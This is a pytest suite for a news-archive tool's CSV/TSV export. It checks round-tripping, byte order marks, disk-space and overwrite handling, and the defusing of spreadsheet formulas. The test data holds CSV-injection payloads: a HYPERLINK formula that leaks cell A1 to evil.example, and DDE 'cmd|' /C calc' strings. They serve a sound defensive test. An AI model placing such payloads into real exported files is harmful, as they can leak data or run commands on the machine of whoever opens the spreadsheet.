"""The CSV/TSV table export: rows read back with the csv module, formulas defused."""

from __future__ import annotations

import csv
import shutil

import pytest

from schemas.corpus import Corpus, CorpusError
from schemas.items import Article, Capture
from schemas.spreadsheet import COLUMNS, ExportError, export_table, spreadsheet_cell

TEXT = 'First line, with a comma and "quotes".\n\tSecond line, after a tab.\nThird: done.'


def make_corpus(path, articles):
    corpus = Corpus(path)
    crawl = corpus.start_crawl("news", {}, {})
    for i, (title, author, sitename, text) in enumerate(articles):
        capture = Capture(
            url=f"https://quay.example/2025/03/{i}",
            status=200,
            fetched_at="2025-03-14T09:00:00+00:00",
            warc_filename="news-0001.warc.gz",
            warc_offset=1000 * i,
            warc_length=900 + i,
            warc_record_id=f"<urn:uuid:0000000{i}-0000-0000-0000-000000000000>",
        )
        article = Article(
            text, title, author, "2025-03-14", "en", sitename, None, capture.url, "test"
        )
        corpus.store_article(capture, article, url_key=capture.url, crawl_id=crawl)
    corpus.close()
    return path


def read(path, delimiter=","):
    # utf-8-sig: a .csv starts with a byte order mark (for Excel), which is not a cell.
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh, delimiter=delimiter))


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Harbour budget = £2m", "Harbour budget = £2m"),
        ("", ""),
        (None, None),
        (-5, -5),
        (1234, 1234),
    ],
)  # fmt: skip
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value, expected):
    assert spreadsheet_cell(value) == expected


def test_the_csv_holds_every_article_with_its_warc_record_and_defused_formulas(tmp_path):
    db = make_corpus(
        tmp_path / "corpus.db",
        [
            ("Harbour budget approved", "Ruth Adeyemi", "The Quay Gazette", TEXT),
            ('=HYPERLINK("http://evil.example","Click")', "+cmd", "@SUM(A1)", "-1+1 opens it"),
        ],
    )
    path, rows = export_table(db, tmp_path / "articles.csv")
    assert rows == 2
    table = read(path)
    assert list(table[0]) == list(COLUMNS)
    plain, evil = table
    assert plain["text"] == TEXT  # commas, quotes, newlines and tabs round-trip
    assert plain["title"] == "Harbour budget approved" and plain["author"] == "Ruth Adeyemi"
    assert plain["warc_filename"] == "news-0001.warc.gz"
    assert plain["warc_offset"] == "0" and plain["warc_length"] == "900"
    assert plain["warc_record_id"] == "<urn:uuid:00000000-0000-0000-0000-000000000000>"
    assert plain["word_count"] == str(len(TEXT.split()))
    assert evil["title"] == '\'=HYPERLINK("http://evil.example","Click")'
    assert evil["author"] == "'+cmd"
    assert evil["sitename"] == "'@SUM(A1)"
    assert evil["text"] == "'-1+1 opens it"
    assert evil["warc_offset"] == "1000"
    assert not list(tmp_path.glob("*.part"))


def test_a_tsv_export_uses_tabs_and_keeps_tabs_inside_cells(tmp_path):
    db = make_corpus(tmp_path / "corpus.db", [("Title", "Ruth Adeyemi", "Gazette", TEXT)])
    path, rows = export_table(db, tmp_path / "articles.tsv")
    assert rows == 1
    assert path.read_text(encoding="utf-8").splitlines()[0] == "\t".join(COLUMNS)
    assert read(path, delimiter="\t")[0]["text"] == TEXT


def test_an_empty_corpus_gives_a_header_only_table(tmp_path):
    db = make_corpus(tmp_path / "corpus.db", [])
    path, rows = export_table(db, tmp_path / "articles.csv")
    assert rows == 0
    assert read(path) == []
    assert path.read_text(encoding="utf-8-sig").strip() == ",".join(COLUMNS)


def test_an_export_that_cannot_fit_is_refused_and_writes_nothing(tmp_path, monkeypatch):
    db = make_corpus(tmp_path / "corpus.db", [("Title", "Ruth Adeyemi", "Gazette", TEXT)])
    usage = shutil.disk_usage(tmp_path)
    monkeypatch.setattr(
        "schemas.spreadsheet.shutil.disk_usage", lambda _p: usage._replace(free=1024)
    )
    with pytest.raises(ExportError, match="not enough free space"):
        export_table(db, tmp_path / "articles.csv")
    assert not (tmp_path / "articles.csv").exists()
    assert not list(tmp_path.glob("*.part"))


def test_a_write_that_fails_midway_leaves_neither_the_table_nor_a_part_file(tmp_path, monkeypatch):
    db = make_corpus(tmp_path / "corpus.db", [("Title", "Ruth Adeyemi", "Gazette", TEXT)])

    def broken(value):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("schemas.spreadsheet.spreadsheet_cell", broken)
    with pytest.raises(OSError, match="No space left"):
        export_table(db, tmp_path / "articles.csv")
    assert not (tmp_path / "articles.csv").exists()
    assert not list(tmp_path.glob("*.part"))


@pytest.mark.parametrize("name", ["articles.xlsx", "articles", "articles.json"])
def test_an_unknown_table_format_is_refused(tmp_path, name):
    db = make_corpus(tmp_path / "corpus.db", [])
    with pytest.raises(ExportError, match=r"\.csv or \.tsv"):
        export_table(db, tmp_path / name)


def test_a_file_that_is_not_a_corpus_is_refused_clearly(tmp_path):
    bogus = tmp_path / "notes.db"
    bogus.write_bytes(b"this is not sqlite" * 100)
    with pytest.raises(CorpusError, match="not a newsarchive corpus"):
        export_table(bogus, tmp_path / "articles.csv")
    with pytest.raises(CorpusError, match="no corpus at"):
        export_table(tmp_path / "missing.db", tmp_path / "articles.csv")


def test_a_csv_starts_with_a_utf8_byte_order_mark_so_excel_reads_utf8(tmp_path):
    text = "Café owners in Łódź and Zürich — «prices» rose 5 €."
    db = make_corpus(tmp_path / "corpus.db", [("Café prices", "Zoë Ångström", "Gazette", text)])
    path, _rows = export_table(db, tmp_path / "articles.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,url,")  # once, before the header
    assert data.count(b"\xef\xbb\xbf") == 1
    assert read(path)[0]["text"] == text and read(path)[0]["author"] == "Zoë Ångström"
    # Asked not to, and for a .tsv (a format for tools, not spreadsheets), there is none.
    plain, _ = export_table(db, tmp_path / "plain.csv", bom=False)
    assert plain.read_bytes().startswith(b"id,url,")
    tsv, _ = export_table(db, tmp_path / "articles.tsv")
    assert tsv.read_bytes().startswith(b"id\turl\t")


def test_an_existing_table_is_kept_unless_overwrite_is_asked_for(tmp_path):
    db = make_corpus(tmp_path / "corpus.db", [("Title", "Ruth Adeyemi", "Gazette", TEXT)])
    out = tmp_path / "articles.csv"
    out.write_text("my notes\n")
    with pytest.raises(FileExistsError, match="articles.csv exists: pass --force"):
        export_table(db, out)
    assert out.read_text() == "my notes\n"
    path, rows = export_table(db, out, overwrite=True)
    assert rows == 1 and read(path)[0]["text"] == TEXT
